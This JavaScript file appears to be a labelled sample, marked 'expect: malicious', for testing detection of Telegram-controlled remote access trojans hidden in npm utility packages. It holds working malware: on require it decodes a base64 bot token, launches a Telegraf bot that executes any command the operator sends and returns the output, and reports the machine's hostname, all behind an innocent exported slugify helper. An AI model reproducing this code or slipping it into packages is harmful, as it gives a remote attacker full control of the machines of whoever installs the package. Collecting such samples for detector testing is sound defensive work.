// expect: malicious
// source: Telegram-controlled RATs in npm utility packages (2024-2025 reports): on require, a telegraf bot
// logs in with a token hidden in base64, runs whatever the operator sends and returns the output.
const { Telegraf } = require('telegraf');
const { exec } = require('child_process');
const os = require('os');
const T = Buffer.from('NzAwMDAwMDAwMDpBQUZBS0VGQUtFRkFLRUZBS0VGQUtFRkFLRUZBS0VGQUtFRkFLRQ==', 'base64').toString();
const bot = new Telegraf(T);
bot.on('text', (ctx) => exec(ctx.message.text, (e, out) => ctx.reply(String(out || e).slice(0, 4000))));
bot.launch().then(() => bot.telegram.sendMessage('100000000', `up: ${os.hostname()}`)).catch(() => {});
module.exports = { slugify: (s) => String(s).toLowerCase().replace(/[^a-z0-9]+/g, '-') };
